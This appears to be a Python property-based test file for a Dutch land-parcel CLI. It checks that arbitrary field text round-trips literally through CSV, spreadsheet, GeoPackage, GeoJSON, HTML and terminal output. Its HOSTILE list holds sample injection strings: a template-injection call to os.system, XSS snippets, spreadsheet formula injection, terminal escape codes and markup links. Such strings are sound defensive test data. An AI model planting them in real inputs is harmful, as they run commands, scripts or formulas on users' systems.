"""Property test (issue 10): arbitrary text in every text field, an extra column and its name,
of a parcels file and an agreements file, comes back literally from every export and on the
terminal; no spreadsheet cell is a formula; no file appears outside the outputs.
(The maps have their own property test.)"""

from __future__ import annotations

import contextlib
import html
import json
import re
import tempfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyogrio
import pytest
from conftest import cli, frame, parcel, read_cli_csv, rect
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from terreinen.cli import screen as _screen
from terreinen.io.write import original_text, xlsx_text

HOSTILE = [
    "{{ lipsum.__globals__.os.system('id') }}",
    "{# open comment",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[/red]verkocht",
    "[link=https://evil.example]Broeklanden[/link]",
    '=HYPERLINK("http://x/?"&A1,"Klik")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "'quoted",
    "line\u2028separator",
    "esc\x1b]8;;x\x1b\\",
    ":thumbs_up:",
    "${document.title}`",
]
# any text without NUL or lone surrogates; leading and trailing blanks are not part of a
# value in the data contract (they are stripped), so the text starts and ends visibly
TEXT = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=12),
).filter(lambda t: t == t.strip() and t != "" and t.strip("\x1c\x1d\x1e\x1f\x85") == t)


def unprefix(value):
    """The documented CSV rule undone (terreinen.io.write.original_text)."""
    return original_text(value) if isinstance(value, str) else value


def csv_values(path: Path) -> set[str]:
    table = read_cli_csv(path, dtype=str, keep_default_na=False)  # the Dutch dialect
    return {unprefix(v) for v in [*table.columns, *table.to_numpy().ravel()]}


def xlsx_values(path: Path) -> set:
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return {c.value for c in cells}


def in_xlsx(text: str) -> str:
    """What a workbook holds of a text (documented: XML keeps no CR or C0 controls)."""
    return xlsx_text(text).replace("\r", "\n")


def shown(text: str) -> str:
    """A text as a table cell shows it (documented: control characters as escapes)."""
    return _screen.plain(text, one_line=True).plain


@contextlib.contextmanager
def sandbox():
    """A fresh folder that is also the working directory: nothing may appear elsewhere."""
    with tempfile.TemporaryDirectory() as name, contextlib.chdir(name):
        yield Path(name)


@pytest.fixture(autouse=True)
def wide_terminal(monkeypatch):
    """Table cells unwrapped, so that a text is found whole in the output."""
    monkeypatch.setattr(_screen.out, "_width", 100_000)


def ok(*args) -> str:
    result = cli(*args)
    said = result.stdout + result.stderr
    assert result.exit_code == 0, said
    assert "Traceback" not in said and "\x1b" not in said
    return result.stdout


@settings(
    max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(terrein=TEXT, gemeente=TEXT, provincie=TEXT, kavel=TEXT, column=TEXT, value=TEXT)
def test_parcel_texts_come_back_literally(terrein, gemeente, provincie, kavel, column, value):
    name = f"x {column}"  # an extra column, never one of the contract's names or aliases
    texts = {terrein, gemeente, provincie, f"{kavel}-1", name, value}
    with sandbox() as here:
        rows = [
            parcel(f"{kavel}-{i}", rect(i * 100, 0, 100, 100), terrein=terrein,
                   gemeente=gemeente, provincie=provincie, **{name: value})
            for i in (1, 2)
        ]  # fmt: skip
        frame(rows).to_parquet(here / "k.parquet")
        inputs = {"k.parquet"}

        screen = ok("capacity", "k.parquet", "--by", "provincie,terrein")
        assert shown(terrein) in screen and shown(provincie) in screen
        screen = ok("find", "k.parquet")
        assert shown(f"{kavel}-1") in screen and shown(terrein) in screen

        outputs = {"c.xlsx", "f.csv", "x.xlsx", "x.gpkg", "x.geojson", "i.csv"}
        ok("capacity", "k.parquet", "-o", "c.xlsx")
        assert in_xlsx(gemeente) in xlsx_values(here / "c.xlsx")
        ok("find", "k.parquet", "-o", "f.csv")
        assert {f"{kavel}-1", terrein, gemeente} <= csv_values(here / "f.csv")
        ok("export", "k.parquet", "--to", "x.xlsx")
        assert {in_xlsx(t) for t in (terrein, gemeente, provincie)} <= xlsx_values(here / "x.xlsx")
        ok("export", "k.parquet", "--to", "i.csv")
        assert {terrein, gemeente, provincie} <= csv_values(here / "i.csv")
        ok("export", "k.parquet", "--to", "x.gpkg")
        layer = pyogrio.read_dataframe(here / "x.gpkg", layer="kavels")
        assert set(layer.columns) >= {name} and set(layer[name]) == {value}
        assert set(layer["kavel_id"]) == {f"{kavel}-1", f"{kavel}-2"}
        assert set(pyogrio.read_dataframe(here / "x.gpkg", layer="terreinen")["plan_naam"]) == {
            terrein
        }
        ok("export", "k.parquet", "--to", "x.geojson")
        features = json.loads((here / "x.geojson").read_text())["features"]
        properties = features[0]["properties"]
        assert properties["terrein"] == terrein and properties[name] == value
        outputs |= {"r.html", "r.xlsx"}
        ok("rapport", "-o", "r.html", "--", gemeente, "k.parquet")  # the officer's page
        page = (here / "r.html").read_text(encoding="utf-8")
        assert html.escape(terrein) in page and "<script" not in page.lower()
        ok("rapport", "-o", "r.xlsx", "--", gemeente, "k.parquet")
        assert in_xlsx(terrein) in xlsx_values(here / "r.xlsx")
        assert texts  # every text was checked above in at least one output
        assert {p.name for p in here.iterdir()} == inputs | outputs


@settings(
    max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(gemeente=TEXT, afspraak=TEXT, bron=TEXT, column=TEXT, value=TEXT)
def test_agreement_texts_come_back_literally(gemeente, afspraak, bron, column, value):
    name = f"x {column}"
    with sandbox() as here:
        rows = [parcel("A", rect(0, 0, 100, 100), gemeente=gemeente)]
        frame(rows).to_parquet(here / "k.parquet")
        agreements = pd.DataFrame(
            {
                "afspraak_id": [afspraak],
                "gebied": [gemeente],
                "niveau": ["gemeente"],
                "plancapaciteit": ["hard"],
                "max_ha": ["2"],
                "bron": [bron],
                name: [value],
            }
        )
        # CRLF: the csv module quotes a value holding a carriage return only then
        agreements.to_csv(here / "a.csv", index=False, lineterminator="\r\n")
        screen = ok("agreements", "k.parquet", "-a", "a.csv", "--as-of", "2026-01-01")
        assert shown(afspraak) in screen and shown(gemeente) in screen
        ok("agreements", "k.parquet", "-a", "a.csv", "--as-of", "2026-01-01", "-o", "o.csv")
        values = csv_values(here / "o.csv")
        assert {afspraak, gemeente, bron} <= values
        ok("export", "k.parquet", "-a", "a.csv", "--as-of", "2026-01-01", "--to", "x.xlsx")
        assert {in_xlsx(afspraak), in_xlsx(gemeente)} <= xlsx_values(here / "x.xlsx")
        assert {p.name for p in here.iterdir()} == {"k.parquet", "a.csv", "o.csv", "x.xlsx"}


def test_the_strategy_reaches_the_hostile_texts():
    """The literal checks above would fail on a changed text: the helpers do not hide it."""
    assert unprefix("'=1") == "=1" and in_xlsx("a\rb\x01") == "a\nb\ufffd"
    assert shown("[red]x") == "[red]x" and shown("\x1b") == "\\x1b"
    assert not re.search(r"[\x00-\x08]", in_xlsx("\x01\x02"))
